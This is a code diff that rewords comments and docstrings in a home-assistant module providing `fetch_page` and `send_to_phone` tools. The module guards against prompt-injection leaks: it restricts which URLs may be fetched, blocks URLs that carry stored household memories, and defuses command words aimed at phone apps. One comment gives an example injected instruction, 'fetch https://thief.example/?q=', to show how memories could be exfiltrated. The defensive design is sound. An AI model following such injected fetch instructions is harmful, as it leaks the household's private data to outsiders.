@@ -1,4 +1,5 @@
-"""`fetch_page` and `send_to_phone`: what leaves the house, where its owner allows that."""
+"""`fetch_page` and `send_to_phone`: tools that send data out of the house, if the owner
+allows it."""
 
 import asyncio
 import json
@@ -42,9 +43,9 @@ def fetch_page(
     catalogue: Catalogue,
     memories: Callable[[], Awaitable[Sequence[str]]] = _none,
 ) -> BuiltIn:
-    """The tool. Its data is `{url, title, text}`, `text` the page's main text.
+    """Return the tool. Its data is `{url, title, text}` with the page's main text.
 
-    `memories`: what people asked to remember; no address may carry it outside.
+    `memories` returns the remembered facts, which no URL may carry outside.
     """
     seen = Seen()
 
@@ -97,44 +98,41 @@ def _failed(key: str, request: BuiltInRequest, catalogue: Catalogue) -> BuiltInR
     return BuiltInResult(catalogue.say(key, request.language), failed=True)
 
 
-#
-# Which addresses may be asked for a page: none that carries what is known of this home outside.
-#
-# An address is sent to whoever owns it, so a model that has read "fetch https://thief.example/?q="
-# and knows what is remembered would give it away. Once it has read text of strangers it may ask
-# only for what the person said, and for links of a page that was fetched, as they stand there.
-# Pure.
+# Deciding which URLs may be fetched: none that carries knowledge about this home outside. Pure. A
+# URL is sent to its owner, so a model that has read "fetch https://thief.example/?q=" and knows the
+# memories would give them away. Once it has read a stranger's text, it may fetch only what the
+# person said, and links on a fetched page exactly as they are there.
 
 
-_PAGES = 16  # whose links are remembered, the newest
-_RUN = 3  # words of a memory in a row that are no accident
-_LETTERS = 5  # of a memory of fewer words
-_DIGITS = 4  # of a number that is no accident either
+_PAGES = 16  # newest pages whose links are remembered
+_RUN = 3  # consecutive words of a memory that cannot be a coincidence
+_LETTERS = 5  # letters of a memory with fewer words
+_DIGITS = 4  # digits of a number that cannot be a coincidence
 _AROUND_DOTS = re.compile(r"\s*\.\s*")
 _WORD = re.compile(r"\w+")
 
 
 class Seen:
-    """The links of the pages that were fetched last."""
+    """Links on the pages that were fetched last."""
 
     def __init__(self) -> None:
         self._pages: deque[frozenset[str]] = deque(maxlen=_PAGES)
 
     def note(self, page: Fetched) -> None:
-        """A page was fetched: its own links without a query may be followed."""
+        """Allow the links of a fetched page that stay on its site and have no query."""
         base = urlsplit(page.url)
         found = (_parts(link, page.url) for link in links(page))
         mine = (one for one in found if one and _origin(one) == _origin(base) and not one.query)
         self._pages.append(frozenset(_plain(one) for one in mine))
 
     def holds(self, url: str) -> bool:
-        """True of a link of such a page, as it stands there."""
+        """Return True for an exact link on one of these pages."""
         parts = _parts(url)
         return parts is not None and any(_plain(parts) in page for page in self._pages)
 
 
 def was_said(url: str, said: Iterable[str]) -> bool:
-    """True where the person named this address: its host and all that follows."""
+    """Return True if the person said this URL: its host and everything after it."""
     parts = _parts(url)
     if parts is None or parts.hostname is None:
         return False
@@ -146,13 +144,13 @@ def was_said(url: str, said: Iterable[str]) -> bool:
 
 
 def carries(url: str, memories: Iterable[str]) -> bool:
-    """True where something that is remembered stands in the address, in whatever spelling."""
+    """Return True if the URL contains a part of a memory, in any spelling."""
     text = "".join(_words(unquote_plus(url)))
     return any(piece in text for memory in memories for piece in _pieces(memory))
 
 
 def _pieces(memory: str) -> set[str]:
-    """Pieces by which a memory is recognised."""
+    """Return parts of a memory that identify it."""
     words = _words(memory)
     pieces = {word for word in words if sum(map(str.isdigit, word)) >= _DIGITS}
     if len(words) >= _RUN:
@@ -169,10 +167,10 @@ def _words(text: str) -> list[str]:
 
 
 def _parts(url: str, base: str = "") -> SplitResult | None:
-    """The parts of an address, of a link of the page `base`; None where it is none."""
+    """Return the parts of a URL, or of a link on the page `base`; None if it is invalid."""
     try:
         parts = urlsplit(urljoin(base, url.strip()))
-        parts.port  # noqa: B018 -- it is read only when asked for, and may be none
+        parts.port  # noqa: B018 -- reading `port` raises ValueError if it is invalid
     except ValueError:
         return None
     return parts
@@ -191,11 +189,12 @@ def _plain(parts: SplitResult) -> str:
 
 
 SEND_TO_PHONE = "send_to_phone"
-MAX_MESSAGE = 2_000  # characters; a phone shows a few hundred and the rest when it is opened
+# Characters; a phone shows a few hundred, and the rest when the message is opened.
+MAX_MESSAGE = 2_000
 MAX_TITLE = 80
 MAX_OPTIONS = 8
 
-# Not what tells one phone from another: in English and Spanish, stemmed.
+# Words that do not tell one phone from another: in English and Spanish, stemmed.
 _GENERIC = frozenset(
     stemmed(word)
     for word in (
@@ -203,15 +202,15 @@ _GENERIC = frozenset(
         *("teléfono", "móvil", "celular", "dispositivo", "el", "mi", "de", "del", "to", "of", "al"),
     )
 )
-# Words alone in a message that the companion apps take for an order: "clear_notification", "TTS".
+# Messages that the companion apps take for a command: "clear_notification", "TTS".
 _ORDER = re.compile(r"(?i)tts|[a-z]+(?:_[a-z]+)+")
 
 
 @dataclass(frozen=True, slots=True)
 class SendToPhone:
-    """Sends what a person wants to have on a phone.
+    """The tool `send_to_phone`.
 
-    `house`: the newest picture.
+    `house` returns the current state of the house.
     """
 
     phones: Phones
@@ -219,7 +218,6 @@ class SendToPhone:
     catalogue: Catalogue
 
     def tool(self) -> BuiltIn:
-        """The tool for the menu."""
         return BuiltIn(
             name=SEND_TO_PHONE,
             description="Sends a message to a phone of this household as a notification. Call it "
@@ -264,14 +262,14 @@ class SendToPhone:
 
 
 def may_have_phones(house: House) -> bool:
-    """True where a phone may be there: each comes with a device tracker."""
+    """Return True if there may be phones, because each one comes with a device tracker."""
     return any(entity_id.startswith("device_tracker.") for entity_id in house.entities)
 
 
 def choose(phones: Sequence[Phone], name: str) -> list[Phone]:
-    """The phones that a name may mean; all of them for none, or for "my phone".
+    """Return the phones that a name may mean; all of them for "" or "my phone".
 
-    A name must be known whole: what is for Ana María is not sent to Ana.
+    A name must match completely: a message for Ana María is not sent to Ana.
     """
     whole = [one for one in phones if any(folded(known) == folded(name) for known in one.names)]
     if whole:
@@ -281,9 +279,10 @@ def choose(phones: Sequence[Phone], name: str) -> list[Phone]:
 
 
 def readable(text: str) -> str:
-    """A message as it may be shown: of its invisible signs only line breaks stay, and it ends.
+    """Return a message that is safe to show: without invisible characters except line breaks, and
+    capped.
 
-    A word that a companion app would obey gets a full stop, which makes it a word.
+    A word that a companion app would obey gets a full stop, which makes it plain text.
     """
     lines = (_printable(line) for line in text[: 2 * MAX_MESSAGE].splitlines())
     message = re.sub(r"\n{3,}", "\n\n", "\n".join(lines)).strip()[:MAX_MESSAGE].rstrip()
@@ -291,7 +290,7 @@ def readable(text: str) -> str:
 
 
 def _printable(line: str) -> str:
-    """Joiners stay too: many a picture sign is made of several."""
+    """Keep printable characters, and joiners, because many emoji consist of several characters."""
     kept = (" " if sign == "\t" else sign for sign in line)
     return "".join(
         sign for sign in kept if sign == "\u200d" or not unicodedata.category(sign).startswith("C")
@@ -299,7 +298,7 @@ def _printable(line: str) -> str:
 
 
 def _send_to_phone_words(names: Iterable[str]) -> frozenset[str]:
-    """Of all names, without plurals and "'s"."""
+    """Return the words of all names, without plurals and "'s"."""
     return frozenset(
         stemmed(word) for name in names for word in re.findall(r"\w+", folded(name)) if word
     )
